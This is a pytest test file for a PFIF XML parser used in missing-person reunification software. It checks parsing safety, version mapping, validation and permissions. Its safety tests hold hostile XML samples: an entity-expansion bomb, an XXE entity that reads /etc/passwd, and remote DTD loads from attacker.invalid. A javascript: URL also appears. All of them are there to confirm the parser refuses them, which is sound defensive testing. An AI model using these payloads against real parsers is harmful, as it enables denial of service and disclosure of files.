"""PFIF XML input: safety, version mapping, validation messages, expiry and permissions.

All people here are synthetic.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from reunify.domain.dates import AgeRange, BirthDate
from reunify.domain.types import Sex
from reunify.interop.pfif import (
    NoteStatus,
    PfifError,
    PfifPerson,
    Severity,
    parse,
)

DATA = Path(__file__).parents[3] / "data" / "pfif" / "personfinder"
NOW = datetime(2026, 1, 1, tzinfo=UTC)
T0 = datetime(2025, 11, 2, 8, 30, tzinfo=UTC)
NS14 = "http://zesty.ca/pfif/1.4"


def doc(body: str, version: str = "1.4") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/{version}">{body}</pfif:pfif>'
    ).encode()


def person_xml(record_id: str = "example.org/p1", **fields: str) -> str:
    values = {
        "person_record_id": record_id,
        "source_date": "2025-11-02T08:30:00Z",
        "full_name": "Ana Exemplo",
        **fields,
    }
    inner = "".join(f"<pfif:{k}>{v}</pfif:{k}>" for k, v in values.items() if v is not None)
    return f"<pfif:person>{inner}</pfif:person>"


def note_xml(record_id: str = "example.org/n1", **fields: str) -> str:
    values = {
        "note_record_id": record_id,
        "person_record_id": "example.org/p1",
        "author_name": "Desk 3",
        "source_date": "2025-11-02T09:00:00Z",
        "text": "Seen at the shelter.",
        **fields,
    }
    inner = "".join(f"<pfif:{k}>{v}</pfif:{k}>" for k, v in values.items() if v)
    return f"<pfif:note>{inner}</pfif:note>"


# --- safety -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person>
<pfif:person_record_id>example.org/p1</pfif:person_record_id>
<pfif:full_name>&lol4;</pfif:full_name></pfif:person></pfif:pfif>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE pfif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person>
<pfif:person_record_id>example.org/p1</pfif:person_record_id>
<pfif:full_name>&secret;</pfif:full_name></pfif:person></pfif:pfif>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE pfif [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE pfif SYSTEM "http://attacker.invalid/pfif.dtd">
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"/>"""


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BILLION_LAUGHS, "entity declaration 'lol' refused: entity expansion (billion laughs)"),
        (
            XXE_FILE,
            "external entity 'secret' (file:///etc/passwd) refused: external entities (XXE)",
        ),
        (XXE_PARAMETER, "external entity 'remote' (http://attacker.invalid/evil.dtd) refused"),
        (EXTERNAL_DTD, "document type declarations (DTD) are refused"),
    ],
)
def test_dangerous_documents_are_refused_with_the_reason(document: bytes, reason: str) -> None:
    with pytest.raises(PfifError) as refused:
        parse(document)
    assert reason in str(refused.value)
    assert "root:" not in str(refused.value)  # nothing of /etc/passwd leaks into the message


def test_size_limit_is_checked_before_parsing() -> None:
    data = doc(person_xml())
    assert len(parse(data, max_bytes=len(data)).persons) == 1
    with pytest.raises(PfifError, match=f"the document is {len(data)} bytes; the limit is 100"):
        parse(data, max_bytes=100)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"<pfif:pfif xmlns:pfif='http://zesty.ca/pfif/1.4'><pfif:person>", "not well-formed XML"),
        (b"<pfif><person/></pfif>", "the pfif element has no namespace"),
        (b"<p:pfif xmlns:p='http://zesty.ca/pfif/1.5'/>", "namespace 'http://zesty.ca/pfif/1.5'"),
        (b"<html><body/></html>", "not a PFIF document"),
        (f"<p:person xmlns:p='{NS14}'/>".encode(), "a PFIF document's root is pfif:pfif"),
    ],
)
def test_documents_that_are_not_pfif_are_refused(document: bytes, reason: str) -> None:
    with pytest.raises(PfifError, match=reason):
        parse(document)


# --- version mapping ------------------------------------------------------------------------


def test_pfif_1_1_field_names_are_upgraded() -> None:
    result = parse((DATA / "test.pfif-1.1.xml").read_bytes(), now=NOW)
    (person,) = result.persons
    assert result.version == "1.1"
    assert (person.given_name, person.family_name) == ("_test_first_name", "_test_last_name")
    assert person.full_name == "_test_first_name _test_last_name"  # derived for PFIF 1.4
    assert person.home_postal_code == "_test_home_zip"
    assert person.description == "_test_description"  # "description:" label of `other` removed
    assert person.home_city == "_test_home_city"  # surrounding whitespace stripped
    found, other = result.notes
    assert found.author_made_contact is True  # was <found>true</found>
    assert other.author_made_contact is None
    assert {n.person_record_id for n in result.notes} == {"test.google.com/person.21009"}


def test_pfif_1_2_and_1_4_files_describe_the_same_person() -> None:
    old = parse((DATA / "test.pfif-1.2.xml").read_bytes(), now=NOW)
    new = parse((DATA / "test.pfif-1.4.xml").read_bytes(), now=NOW)
    (p12,), (p14,) = old.persons, new.persons
    assert (p12.given_name, p12.family_name) == ("_test_first_name", "_test_last_name")
    assert (p14.given_name, p14.family_name) == ("_test_given_name", "_test_family_name")
    assert p12.description == p14.description == "_test_description"
    assert p12.home_postal_code == p14.home_postal_code == "_test_home_postal_code"
    contact = [n.author_made_contact for n in old.notes]
    assert contact == [n.author_made_contact for n in new.notes] == [False, True, None, False]
    assert [n.status for n in old.notes] == [n.status for n in new.notes]


def test_pfif_1_4_sample_fields() -> None:
    result = parse((DATA / "test.pfif-1.4.xml").read_bytes(), now=NOW)
    (person,) = result.persons
    assert person.full_name == "_test_full_name1\n_test_full_name2"
    assert person.names == (
        "_test_full_name1",
        "_test_full_name2",
        "_test_alternate_name1",
        "_test_alternate_name2",
    )
    assert person.sex is Sex.FEMALE
    assert person.date_of_birth == BirthDate(1970, 1)
    assert person.age == AgeRange(35, 45)
    assert person.home_country == "US"
    assert person.source_date == datetime(2000, 1, 1, tzinfo=UTC)
    assert person.profile_urls == ""  # "_test_profile_url1" is not a URL: dropped, said so
    assert any(w.field == "profile_urls" for w in result.warnings)
    linked, contact, author, backdated = result.notes
    assert linked.linked_person_record_id == "test.google.com/person.999"
    assert result.linked == (linked,)
    assert linked.status is NoteStatus.BELIEVED_MISSING
    assert contact.person_record_id == person.person_record_id  # inherited from its person
    assert contact.last_known_location == "19.16592425362802 -71.9384765625"
    assert author.status is NoteStatus.IS_NOTE_AUTHOR
    assert backdated.source_date < author.source_date  # type: ignore[operator]


def test_non_ascii_names_survive_parsing() -> None:
    data = (DATA / "extracted-from-test_pfif/pfif-1.2-with-non-ascii-characters.xml").read_bytes()
    (person,) = parse(data, now=NOW).persons
    assert person.author_name == "a with acute = á"
    assert person.author_email == "c with cedilla = ç"
    assert person.author_phone == "e with acute = é"
    assert person.given_name == "greek alpha = α"
    assert person.family_name == "hebrew alef = א"


# --- validation: a bad record among good ones ---------------------------------------------


def test_a_bad_record_does_not_stop_the_good_ones() -> None:
    data = doc(
        person_xml("example.org/p1")
        + person_xml("example.org/p2", date_of_birth="1990-13")
        + person_xml("example.org/p3", full_name="Βασιλική Δοκιμή")
    )
    result = parse(data, now=NOW)
    assert [p.person_record_id for p in result.persons] == ["example.org/p1", "example.org/p3"]
    (error,) = result.errors
    assert str(error).startswith(
        "person example.org/p2: date_of_birth: '1990-13' is not YYYY, YYYY-MM or YYYY-MM-DD"
    )
    assert (error.kind, error.record_id, error.field) == (
        "person",
        "example.org/p2",
        "date_of_birth",
    )


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            person_xml("no-slash"),
            "person no-slash: person_record_id: 'no-slash' is not a record id",
        ),
        (person_xml("exämple.org/p1"), "'exämple.org/p1' is not a record id"),
        (person_xml(full_name=""), "person example.org/p1: full_name: required field is missing"),
        (person_xml(source_date=""), "person example.org/p1: source_date: required field"),
        (
            person_xml(source_date="2025-11-02 08:30"),
            "source_date: '2025-11-02 08:30' is not a UTC time yyyy-mm-ddThh:mm:ssZ",
        ),
        (
            person_xml(entry_date="2025-02-30T00:00:00Z"),
            "entry_date: '2025-02-30T00:00:00Z' is not",
        ),
        (person_xml(sex="f"), "person example.org/p1: sex: 'f' is not one of female, male, other"),
        (person_xml(age="about 30"), "age: 'about 30' is not an age N or a range N-M"),
        (person_xml(age="30-200"), "age: '30-200' is not an age N or a range N-M"),
        (person_xml(date_of_birth="02/03/1990"), "date_of_birth: '02/03/1990' is not YYYY"),
        (
            person_xml() + person_xml(full_name="Other Person"),
            "person example.org/p1: person_record_id: duplicate person_record_id",
        ),
        (
            "<pfif:person><pfif:person_record_id>example.org/p1</pfif:person_record_id>"
            "<pfif:full_name>A</pfif:full_name><pfif:full_name>B</pfif:full_name>"
            "<pfif:source_date>2025-11-02T08:30:00Z</pfif:source_date></pfif:person>",
            "person example.org/p1: full_name: appears more than once",
        ),
        (note_xml(status="alive"), "note example.org/n1: status: 'alive' is not one of"),
        (note_xml(author_made_contact="yes"), "author_made_contact: 'yes' is not one of"),
        (note_xml(text=""), "note example.org/n1: text: required field is missing"),
        (note_xml(source_date=""), "note example.org/n1: source_date: required field"),
        (
            note_xml(person_record_id=""),
            "note example.org/n1: person_record_id: required field is missing (a top-level note",
        ),
        (note_xml(note_record_id=""), "note #1: note_record_id: required field is missing"),
        (note_xml() + note_xml(), "note example.org/n1: note_record_id: duplicate"),
        (
            person_xml("example.org/p1")[: -len("</pfif:person>")]
            + note_xml(person_record_id="example.org/p9")
            + "</pfif:person>",
            "note example.org/n1: person_record_id: 'example.org/p9' differs from its person",
        ),
    ],
)
def test_each_rule_names_the_record_and_the_field(body: str, message: str) -> None:
    result = parse(doc(body), now=NOW)
    errors = [str(e) for e in result.errors]
    assert any(message in e for e in errors), errors
    assert all(e.severity is Severity.ERROR for e in result.errors)


def test_required_fields_follow_the_version() -> None:
    """full_name is required since 1.3; before, first_name and last_name (one is enough here)."""
    v12 = (
        "<pfif:person><pfif:person_record_id>example.org/p1</pfif:person_record_id>{}</pfif:person>"
    )
    nameless = parse(doc(v12.format(""), "1.2"), now=NOW)
    assert [str(e) for e in nameless.errors] == [
        "person example.org/p1: first_name: a PFIF 1.2 person needs a first_name or a last_name"
    ]
    half = parse(doc(v12.format("<pfif:first_name>Ana Exemplo</pfif:first_name>"), "1.2"), now=NOW)
    assert half.persons[0].full_name == "Ana Exemplo"
    assert [str(w) for w in half.warnings] == [
        "person example.org/p1: last_name: missing (required by PFIF 1.2); kept, as first_name "
        "is present"
    ]
    v14 = parse(doc(v12.format("<pfif:given_name>Ana</pfif:given_name>")), now=NOW)
    assert {e.field for e in v14.errors} == {"full_name", "source_date"}


def test_errors_name_the_field_as_the_document_does() -> None:
    body = note_xml(found="maybe")  # PFIF 1.2 calls author_made_contact "found"
    (error,) = parse(doc(body, "1.2"), now=NOW).errors
    assert str(error) == "note example.org/n1: found: 'maybe' is not one of true, 1, false, 0"


@pytest.mark.parametrize(
    ("fields", "field", "kept"),
    [
        ({"author_email": "not-an-address"}, "author_email", "not-an-address"),
        ({"author_phone": "call me maybe"}, "author_phone", "call me maybe"),
        ({"home_country": "Germany"}, "home_country", ""),
        ({"home_state": "Bavaria"}, "home_state", "Bavaria"),
        ({"photo_url": "javascript:alert(1)"}, "photo_url", ""),
        ({"source_url": "ftp://example.org/x"}, "source_url", ""),
    ],
)
def test_doubtful_values_are_warnings_and_the_record_is_kept(
    fields: dict[str, str], field: str, kept: str
) -> None:
    result = parse(doc(person_xml(**fields)), now=NOW)
    (person,) = result.persons
    assert getattr(person, field) == kept
    (warning,) = result.warnings
    assert (warning.field, warning.severity) == (field, Severity.WARNING)
    assert str(warning).startswith(f"person example.org/p1: {field}: ")


def test_plausible_contact_values_give_no_warning() -> None:
    body = person_xml(
        author_email="desk@example.org",
        author_phone="+49 (30) 555-0100",
        home_country="de",
        home_state="DE-BE",
        photo_url="https://example.org/p1.jpg",
    )
    result = parse(doc(body), now=NOW)
    assert result.warnings == ()
    assert result.persons[0].home_country == "DE"


def test_unknown_fields_are_ignored_with_a_warning() -> None:
    body = person_xml(given_name="Ana")  # not a PFIF 1.2 field
    body = body.replace("full_name", "first_name").replace("source_date", "last_name")
    result = parse(doc(body, "1.2"), now=NOW)
    assert [str(w) for w in result.warnings] == [
        "person example.org/p1: given_name: not a PFIF 1.2 person field; ignored"
    ]


def test_linked_record_pointing_nowhere_useful_is_dropped() -> None:
    result = parse(doc(note_xml(linked_person_record_id="example.org/p1")), now=NOW)
    assert result.notes[0].linked_person_record_id == ""
    assert "is the note's own person; dropped" in str(result.warnings[0])


# --- expiry, permissions ------------------------------------------------------------------


def test_expired_person_keeps_only_the_placeholder_and_loses_its_notes() -> None:
    body = person_xml(expiry_date="2025-12-01T00:00:00Z", home_city="Springfield")
    body += note_xml()
    before = parse(doc(body), now=datetime(2025, 11, 30, tzinfo=UTC))
    assert before.persons[0].home_city == "Springfield"
    assert len(before.notes) == 1
    after = parse(doc(body), now=NOW)
    (placeholder,) = after.persons
    assert placeholder == PfifPerson(
        "example.org/p1",
        expiry_date=datetime(2025, 12, 1, tzinfo=UTC),
        source_date=datetime(2025, 11, 2, 8, 30, tzinfo=UTC),
    )
    assert after.expired == (placeholder,)
    assert after.notes == ()
    assert {w.field for w in after.warnings} == {"expiry_date", "person_record_id"}


def test_believed_dead_needs_the_permission() -> None:
    body = doc(note_xml(status="believed_dead"))
    refused = parse(body, now=NOW)
    assert refused.notes == ()
    assert refused.errors[0].field == "status"
    allowed = parse(body, now=NOW, allow_believed_dead=True)
    assert [n.note_record_id for n in allowed.believed_dead] == ["example.org/n1"]


def test_authorized_domain_refuses_other_domains_case_insensitively() -> None:
    body = doc(person_xml("Example.ORG/p1") + person_xml("elsewhere.net/p2"))
    result = parse(body, now=NOW, authorized_domain="example.org")
    assert [p.person_record_id for p in result.persons] == ["Example.ORG/p1"]
    assert "person elsewhere.net/p2: person_record_id: domain 'elsewhere.net'" in str(
        result.errors[0]
    )


def test_records_embedded_in_an_atom_feed_are_found() -> None:
    feed = f"""<feed xmlns="http://www.w3.org/2005/Atom" xmlns:pfif="{NS14}">
      <entry><id>pfif:example.org/p1</id>{person_xml()}</entry>
      <entry><id>pfif:example.org/n1</id>{note_xml()}</entry></feed>""".encode()
    result = parse(feed, now=NOW)
    assert (len(result.persons), len(result.notes), result.version) == (1, 1, "1.4")
